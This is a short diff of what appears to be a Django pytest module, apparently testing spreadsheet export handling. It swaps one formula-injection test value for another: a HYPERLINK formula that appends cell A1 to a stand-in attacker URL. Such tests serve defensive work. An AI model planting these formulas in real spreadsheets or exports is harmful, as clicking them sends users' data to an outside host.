@@ -24,7 +24,8 @@ from .conftest import london
 
 pytestmark = pytest.mark.django_db
 PLACEMENT = {"authority": "941", "provider": "Oakfield House", "started_on": date(2019, 6, 1)}
-FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+# At most 40 characters, as the case-system id column keeps.
+FORMULA = '=HYPERLINK("http://e.vil/"&A1,"Go")'
 
 
 @pytest.fixture
